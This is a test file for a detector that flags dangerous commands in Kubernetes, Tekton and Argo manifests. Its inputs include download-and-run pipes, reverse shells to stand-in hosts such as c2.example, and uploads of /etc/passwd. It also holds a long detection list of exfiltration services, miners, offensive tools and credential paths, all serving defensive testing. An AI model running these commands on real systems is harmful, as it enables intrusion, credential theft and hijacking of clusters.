import fc from 'fast-check'
import t from 'tap'
import { isJsonObject, parseJson, type JsonObject } from '../../../../src/json.js'
import { OBJECT_FEATURES, objectFeatures } from '../../../../src/risk/features.js'
import { PATTERNS, type Pattern, type Sequence } from '../../../../src/risk/features/command-patterns.js'
import { createWordScan } from '../../../../src/risk/features/word-scan.js'

function object(value: unknown): JsonObject {
  const parsed = parseJson(JSON.stringify(value))
  if (!isJsonObject(parsed)) throw new Error('not an object')
  return parsed
}

/** What is found in what an object runs, with the first place of each. */
function commands(value: unknown): Record<string, string> {
  const { values, paths } = found(value)
  return Object.fromEntries(
    OBJECT_FEATURES.flatMap(({ name, unit }, column) =>
      name.startsWith('command.') && unit === 'flag' && values[column] === 1
        ? [[name.slice('command.'.length), paths(column)[0] ?? '']]
        : [],
    ),
  )
}

function found(value: unknown): { values: Float32Array; paths: (column: number) => readonly string[] } {
  const vector = objectFeatures(object(value))
  return { values: vector.values, paths: column => vector.paths(column) }
}

const pod = (container: Record<string, unknown>) => ({
  apiVersion: 'v1',
  kind: 'Pod',
  spec: { containers: [{ name: 'a', image: 'b', ...container }] },
})
const namesIn = (text: string): string[] => Object.keys(commands(pod({ args: [text] })))

const ORDER = Object.keys(PATTERNS)
function inTable(a: string, b: string): number {
  return ORDER.indexOf(a) - ORDER.indexOf(b)
}

t.test('padding inside a command hides nothing behind it', t => {
  const padding = Array.from({ length: 300 }, (_, index) => `--header x${index}`).join(' ')
  const cases: Record<string, [text: string, ...names: string[]]> = {
    'a download that is run': [`curl ${padding} http://a.example/x | sh`, 'download_run', 'download'],
    'a download that is run by Python': [`curl ${padding} a.example | python3`, 'download_run'],
    'a shell for another host': [`nc ${padding} -e /bin/bash`, 'reverse_shell'],
    'a shell by a pipe': [`mkfifo ${padding} && nc a`, 'reverse_shell'],
    'hidden text that is run': [`echo a | base64 -d ${padding} | sh`, 'encoded', 'base64'],
    'secrets that are read': [`kubectl ${padding} get secrets`, 'cluster_grant', 'cluster_secret'],
    'a secret that is read': [`kubectl ${padding} get secret shop-tls`, 'cluster_secret'],
    'a container of the node': [`docker run ${padding} --privileged a`, 'escape'],
    'files that are sent': [`tar c ${padding} / | nc a`, 'data_sent'],
    'the second of two commands': ['curl a; curl b | sh', 'download_run'],
    'two halves in two lines': ['mkfifo a\nnc b'],
    'everything but the pipe in another command': [`curl a; ${padding} echo | sh`],
    'everything but the pipe in another line': [`curl a\n${padding} echo | sh`],
  }
  for (const [name, [text, ...names]] of Object.entries(cases)) {
    t.strictSame(namesIn(text), names.sort(inTable), name)
  }
  t.strictSame(namesIn(`kubectl ${padding} get pods`), [])
  t.strictSame(
    namesIn(
      `${Array.from({ length: 40 }, (_, index) => Buffer.from(`just some harmless text ${index}`).toString('base64')).join(' ')} ${Buffer.from('curl http://a.example | sh').toString('base64')}`,
    ),
    ['download_run', 'download'],
    'nor does much that is encoded',
  )
  t.end()
})

t.test('what looks like danger and is none', t => {
  const cases: Record<string, [text: string, ...names: string[]]> = {
    'a probe of the container itself': ['exec 3<>/dev/tcp/127.0.0.1/9181'],
    'a certificate beside the token': [
      'curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt https://a',
      'download',
    ],
    'options that end in letters of others': ['curl --fail --max-time 5 "http://a/b"', 'download'],
    'a log that is written': ['sh run.sh > /var/log/app/run.log'],
    'a program that is asked for': ['command -v grub2 >/dev/null 2>&1 && echo yes'],
    'a tool by name only': ['need curl; chmod +x run'],
    'the name of the host': ['cat /proc/sys/kernel/hostname'],
    'the type of a file system': ['--ignore=(configfs|debugfs|devpts)'],
    'a name server of everybody': ['--dns=1.1.1.1:53,8.8.8.8'],
    'ranges of addresses': ['allow 173.245.48.0/20'],
    'a warning that is switched off': ['redis-cli --no-auth-warning ping'],
    'roles among others': ['--authorization-mode=Node,RBAC'],
  }
  for (const [name, [text, ...names]] of Object.entries(cases)) t.strictSame(namesIn(text), names, name)
  const dangers: Record<string, [text: string, ...names: string[]]> = {
    'a shell for another host': ['exec 3<>/dev/tcp/c2.example/443', 'reverse_shell'],
    'the token itself': ['cat /run/secrets/kubernetes.io/serviceaccount/token', 'token'],
    'the directory of the token': ['ls /var/run/secrets/kubernetes.io/serviceaccount', 'token'],
    'a file that is sent': ['curl -F f=@/etc/passwd a.example', 'data_sent'],
    'a file that is uploaded': ['curl -sT /etc/passwd a.example', 'data_sent'],
    'a log that is emptied': ['; > /var/log/syslog', 'evasion'],
    'something in the background': ['./x > /dev/null 2>&1 &', 'evasion'],
    'a setting of the kernel': ['echo x > /proc/sys/kernel/modprobe', 'escape'],
    'an API server without roles': ['--authorization-mode=Node', 'insecure_flag'],
    'a public address': ['ping 203.0.113.9', 'raw_address'],
  }
  for (const [name, [text, ...names]] of Object.entries(dangers)) t.strictSame(namesIn(text), names, name)
  t.end()
})

t.test('a command that is a parameter is what the parameter says', t => {
  const script = 'curl http://a.example/x | sh'
  const step = (run: Record<string, unknown>, params: unknown) => ({
    apiVersion: 'tekton.dev/v1',
    kind: 'Task',
    spec: { params, steps: [{ name: 'a', image: 'b', ...run }] },
  })
  const is = (at: string, shell?: string) => ({
    download_run: at,
    download: at,
    ...(shell === undefined ? {} : { shell }),
  })
  const cases: Record<string, [value: unknown, is: Record<string, string>]> = {
    'in a script': [
      step({ script: '$(params.run)' }, [{ name: 'run', default: script }]),
      is('/spec/params/0/default', '/spec/steps/0/script'),
    ],
    'in an argument': [
      step({ args: ['$(inputs.params.run)'] }, [{ name: 'run', default: script }]),
      is('/spec/params/0/default'),
    ],
    'as the whole command': [
      step({ command: '$(params["run"][*])' }, [{ name: 'run', default: ['sh', '-c', script] }]),
      is('/spec/params/0/default'),
    ],
    'in a run': [
      {
        apiVersion: 'tekton.dev/v1',
        kind: 'TaskRun',
        spec: {
          params: [{ name: 'run', value: script }],
          taskSpec: { params: [{ name: 'run' }], steps: [{ name: 'a', image: 'b', script: '$(params.run)' }] },
        },
      },
      is('/spec/params/0/value', '/spec/taskSpec/steps/0/script'),
    ],
    'in a workflow': [
      {
        apiVersion: 'argoproj.io/v1alpha1',
        kind: 'Workflow',
        spec: {
          arguments: { parameters: [{ name: 'run', value: script }] },
          templates: [{ name: 'a', container: { image: 'b', args: ['{{inputs.parameters.run}}'] } }],
        },
      },
      is('/spec/arguments/parameters/0/value'),
    ],
    'one that nobody uses': [
      step({ script: 'true' }, [{ name: 'run', default: script }]),
      { shell: '/spec/steps/0/script' },
    ],
    'another one': [
      step({ args: ['$(params.other)'] }, [
        { name: 'run', default: script },
        { name: 'other', default: 'true' },
      ]),
      {},
    ],
  }
  for (const [name, [value, expected]] of Object.entries(cases)) t.strictSame(commands(value), expected, name)
  t.end()
})

t.test('each place says where it is, also where texts are the same', t => {
  const text = 'exec xmrig'
  const { values, paths } = found({
    apiVersion: 'v1',
    kind: 'Pod',
    spec: {
      containers: [
        {
          name: 'a',
          image: 'b',
          args: [text],
          env: [
            { name: 'A', value: 'harmless value' },
            { name: 'B', value: text },
          ],
        },
        { name: 'c', image: 'b', command: [text], lifecycle: { preStop: { exec: { command: [text] } } } },
      ],
    },
  })
  const column = OBJECT_FEATURES.findIndex(({ name }) => name === 'command.miner')
  t.equal(values[column], 1)
  t.strictSame(paths(column), [
    '/spec/containers/0/args',
    '/spec/containers/0/env/1/value',
    '/spec/containers/1/command',
    '/spec/containers/1/lifecycle/preStop/exec/command',
  ])
  t.end()
})

/** At least one for each alternative of each pattern. */
const PARTS = [
  ...[
    'curl a && chmod +x a',
    'curl -d @/run/secrets/kubernetes.io/serviceaccount/token b',
    'curl a | sh',
    'base64 -d | sh',
  ],
  ...[
    'bash -i >& /dev/tcp/a/1',
    '/dev/udp/',
    'mkfifo /x',
    'nc a 1',
    'ncat.x a -e b',
    'netcat --exec',
    'nc -lvpc',
    'openssl s',
  ],
  ...[
    'socat tcp:a',
    'exec:sh',
    'pty.spawn(',
    'socket',
    'dup2(',
    'fsockopen(',
    'exec',
    'system',
    'TCPSocket',
    'sh -i',
    '<&3',
    '>& x',
  ],
  ...[
    'IO::Socket::INET',
    'curl',
    'wget',
    'fetch',
    'aria2c',
    'lwp-download',
    '| sh',
    '| sudo /usr/bin/env bash',
    ') | zsh',
  ],
  ...[
    '| python3',
    '| perl',
    'bash <(curl a)',
    'sh -c "$(wget',
    'eval $(curl',
    'urllib.request',
    'exec(',
    'urlopen',
    'chmod +x',
    'chmod 755',
  ],
  ...[
    'http://a',
    '8.8.8.8 ',
    '10.0.0.1:80',
    'pastebin.com',
    'paste.ee',
    'dpaste.org',
    'hastebin',
    'ghostbin',
    'transfer.sh',
    'file.io',
  ],
  ...[
    '0x0.st',
    'termbin.com',
    'ix.io',
    'temp.sh',
    'webhook.site',
    'requestbin',
    'pipedream.net',
    'burpcollaborator',
    'x.oast.fun',
  ],
  ...[
    'interact.sh',
    'interactsh',
    'oastify.com',
    'dnslog.cn',
    'ngrok',
    'serveo.net',
    'localhost.run',
    'trycloudflare.com',
    'duckdns.org',
  ],
  ...[
    'no-ip.org',
    'ddns.net',
    'anonfiles',
    'catbox.moe',
    'discord.com/api/webhooks',
    'discordapp.com/api/webhooks',
    'api.telegram.org',
  ],
  ...[
    'abc.onion',
    'stratum+tcp',
    'stratum2+ssl',
    'xmrig',
    'xmr-stak',
    'minerd',
    'cpuminer',
    'ethminer',
    'nbminer',
    't-rex',
    'lolminer',
  ],
  ...[
    'phoenixminer',
    'ccminer',
    'kinsing',
    'kdevtmpfsi',
    '--donate-level',
    '--coin',
    '--nicehash',
    '--randomx',
    '--cpu-priority',
  ],
  ...[
    '--max-cpu-usage',
    '--rig-id',
    '--algo',
    'minexmr',
    'supportxmr',
    'nanopool',
    'moneroocean',
    'hashvault',
    '2miners',
    'f2pool',
  ],
  ...[
    'unmineable',
    'c3pool',
    'nicehash',
    'rx/0',
    'cryptonight',
    'randomx',
    '-o a:3333',
    '-o a:14444',
    '169.254.169.254',
    '169.254.170.2',
  ],
  ...['metadata.google.internal', 'fd00:ec2::254', '100.100.100.200', '0xa9fea9fe', '2852039166'],
  ...[
    '/var/run/secrets/kubernetes.io/serviceaccount',
    '/run/secrets/kubernetes.io/serviceaccount',
    'serviceaccount/token',
    '-d @x',
    '--data-raw x',
  ],
  ...[
    '--post-file /x',
    '--upload-file /x',
    '$(cat /x)',
    '| nc',
    '| curl',
    '/etc/shadow',
    '.kube/config',
    '/etc/kubernetes/pki',
    'kubelet/pki',
  ],
  ...[
    '.aws/credentials',
    '.ssh/id_rsa',
    '.ssh/authorized_keys',
    '/root/.x',
    '.docker/config.json',
    '/proc/1/environ',
    '/proc/*/root',
  ],
  ...[
    '/proc/self/mem',
    '.bash_history',
    '-T /x',
    '-F "@x',
    '--data-binary @',
    'tar c',
    '| openssl',
    '| ssh',
    'scp x u@h',
    'rsync u@h',
    'rclone u@h',
  ],
  ...[
    'nsenter',
    'chroot /host',
    'chroot --userspec=a "/mnt',
    'release_agent',
    'core_pattern',
    'notify_on_release',
    'unshare -',
    'debugfs',
  ],
  ...[
    'insmod',
    'modprobe',
    '/proc/sys/kernel/',
    '/proc/1/root',
    'docker run',
    'docker -H x run',
    '--privileged',
    '-v /:',
    '--pid',
    'ctr run',
    'ctr -n x images',
  ],
  ...[
    'crictl',
    'docker.sock',
    'containerd.sock',
    'crio.sock',
    'mount /dev/sda',
    'mount -t ext4 /dev/vda',
    'crontab',
    '/etc/cron',
    '/var/spool/cron',
  ],
  ...[
    'systemctl enable',
    'systemctl daemon-reload',
    '/etc/systemd/system',
    '/etc/kubernetes/manifests',
    '/etc/ld.so.preload',
    'useradd',
  ],
  ...[
    'adduser x sudo',
    '/etc/sudoers',
    '/etc/profile.d',
    '.bashrc',
    'history -c',
    'unset HISTFILE',
    'HISTFILE=/dev/null',
    'setenforce 0',
  ],
  ...[
    'systemctl stop x',
    'systemctl disable x',
    'iptables -F',
    'iptables --flush',
    'ufw disable',
    'pkill falco',
    'rm -rf /var/log',
    'rm -rf /*',
  ],
  ...[
    '> /var/log/x',
    'chattr +i',
    'killall',
    'nohup ./x',
    'nohup /tmp/x',
    '> /dev/null 2>&1 &',
    'shred',
    'base64 -d',
    'base64 --decode',
    '| xxd',
  ],
  ...[
    '| zcat',
    'exec base64',
    'eval atob',
    'exec fromhex',
    'b64decode(x)',
    'xxd -r',
    'openssl enc -d',
    'openssl base64 -d',
    'python3 -c "exec',
    "python -c '__import__",
  ],
  ...[
    '\\x41\\x42\\x43',
    '; /tmp/x',
    '& /dev/shm/x',
    'nohup /var/tmp/x',
    'cd /tmp',
    'cd /dev/shm',
    ' ./x',
    'zgrab',
    'zgrab2',
    'nmap',
    'masscan',
    'zmap',
  ],
  ...[
    'kube-hunter',
    'peirates',
    'kubeletctl',
    'deepce',
    'linpeas',
    'amicontained',
    'botb',
    'cdk',
    'metasploit',
    'msfconsole',
    'msfvenom',
  ],
  ...[
    'meterpreter',
    'hydra',
    'sqlmap',
    'nikto',
    'gobuster',
    'ffuf',
    'responder',
    'bettercap',
    'arpspoof',
    'ettercap',
    'tcpdump',
    'dnsspoof',
  ],
  ...[
    'mitmproxy',
    'chisel',
    'ligolo',
    'sliver',
    'empire',
    'frpc',
    'proxychains',
    'gsocket',
    'gs-netcat',
    'merlin',
    'mythic',
    'cobaltstrike',
  ],
  ...[
    'kubectl apply',
    'kubectl get secrets',
    'oc extract secret/a',
    'AKIAABCDEFGH1234',
    '-----BEGIN RSA PRIVATE KEY',
    'ghp_abcdefghij12',
    'github_pat_abcdefghij12',
    'xoxb-1234567',
    'glpat-abcdefgh12',
    '//r/:_authToken=abcdefgh',
    'aws_secret_access_key = abcdefghijkl',
    '--authorization-mode=Node',
    'kubectl create clusterrolebinding',
    'kubectl auth reconcile',
    'kubectl get --raw',
    'certificate approve',
  ],
  ...[
    'create token',
    '-X POST /apis/',
    '-X DELETE kubernetes',
    'clusterrole=cluster-admin',
    '/api/v1/namespaces/a/secrets',
    '/api/v1/secrets',
    'system:masters',
  ],
  ...[
    '--enable-skip-login',
    '--disable-settings-authorizer',
    '--enable-insecure-login',
    '--insecure-bind-address',
    '--anonymous-auth',
    '--anonymous-auth=true',
  ],
  ...[
    '--authorization-mode=Node,AlwaysAllow',
    '--insecure-port=8080',
    '--token-auth-file',
    '--basic-auth-file',
    '--kubelet-https=false',
  ],
  ...[
    '--use-service-account-credentials=false',
    '--profiling=true',
    '--read-only-port=10255',
    '--allow-privileged=true',
  ],
  ...[
    '--enable-admission-plugins=x,AlwaysAdmit',
    '--disable-admission-plugins',
    '--client-cert-auth=false',
    '--peer-client-cert-auth=false',
    '--auto-tls=true',
  ],
  ...[
    '--peer-auto-tls=true',
    '--service-account-lookup=false',
    '--protect-kernel-defaults=false',
    '--make-iptables-util-chains=false',
    '--rotate-certificates=false',
  ],
  ...[
    '--address=0.0.0.0',
    '--bind-address=0.0.0.0',
    '--unauthenticated',
    '--no-auth',
    '--without-authentication',
    '--disable-auth',
    '--disable-authentication',
  ],
  ...[
    '--insecure-skip-tls-verify',
    '--accept-hosts=^.*$',
    '--api-server-insecure',
    '--tls-verify=false',
    '--auth-mode=',
    '--auth-mode=server',
    '--listen=0.0.0.0:44134',
  ],
  ...[
    'apk add',
    'apk --no-cache add',
    'apt-get install',
    'apt -y update',
    'yum -y install',
    'dnf install',
    'pip install',
    'pip3 install',
    'npm i ',
  ],
  ...[
    'sleep infinity',
    'sleep 3600',
    'sleep 1d',
    'tail -f /dev/null',
    'while true',
    'while :',
    'function',
    'x',
    'balance',
    '--x',
    'http',
    '|',
    ';',
    '&&',
  ],
]

function holds(test: RegExp | Sequence, text: string): boolean {
  if (test instanceof RegExp) return test.test(text)
  const [first, then] = [new RegExp(test.first.source, 'i'), test.then]
  return text.split(new RegExp(test.apart?.source ?? '\n')).some(part => {
    const start = first.exec(part)
    return start !== null && then.test(part.slice(start.index + start[0].length))
  })
}

/** The patterns of a text, each asked. */
function asked(text: string): string[] {
  return Object.entries<Pattern>(PATTERNS)
    .filter(
      ([, { tests, beside }]) =>
        tests.some(each => holds(each, text)) && beside?.some(each => holds(each, text)) !== false,
    )
    .map(([name]) => name)
}

t.test('no pattern is missed for its words', t => {
  const seen = new Set<string>()
  const check = (text: string): void => {
    const [names, all] = [namesIn(text).filter(each => each !== 'shell'), asked(text)]
    for (const name of all) seen.add(name)
    if (names.join() !== all.join())
      throw new Error(`${JSON.stringify(text)} has ${all.join()}, and ${names.join()} was found`)
  }
  for (const part of PARTS)
    for (const text of [part, part.toUpperCase(), `(${part})`]) check(text.replaceAll(/ +/g, ' '))
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom(...PARTS, '\n'), { minLength: 2, maxLength: 7 }),
      fc.constantFrom(' ', ''),
      (parts, glue) => {
        check(
          parts
            .join(glue)
            .replaceAll(/ +/g, ' ')
            .replaceAll(/\n[\n ]*/g, '\n'),
        )
      },
    ),
    { numRuns: 4000 },
  )
  t.strictSame([...seen].sort(inTable), ORDER, 'and each pattern is found in something')
  t.end()
})

t.test('a scan finds the words that a search would find', t => {
  const words = ['=nc', 'nc', 'curl', '=url', '0.0', 'rls', '/a', '=a-b', 'aab', 'ab']
  const scan = createWordScan(words.map((word, index) => ({ word, bit: 1 << index })))
  const simple = (text: string): number =>
    words.reduce((bits, word, index) => {
      const plain = word.replace('=', '').replaceAll(/[.]/g, '\\.').replaceAll('0', '\\d')
      const expression = new RegExp(word.startsWith('=') ? `(?<!\\w)${plain}(?!\\w)` : plain, 'i')
      return expression.test(text) ? bits | (1 << index) : bits
    }, 0)
  fc.assert(
    fc.property(
      fc.oneof(
        fc
          .array(fc.constantFrom(...words.map(each => each.replace('=', '')), ' ', 'A', 'C', 'ü', '7', '_', '\u212a'), {
            maxLength: 8,
          })
          .map(each => each.join('')),
        fc.string(),
      ),
      text => scan(text) === simple(text),
    ),
    { numRuns: 3000 },
  )
  t.equal(scan(''), 0)
  t.end()
})
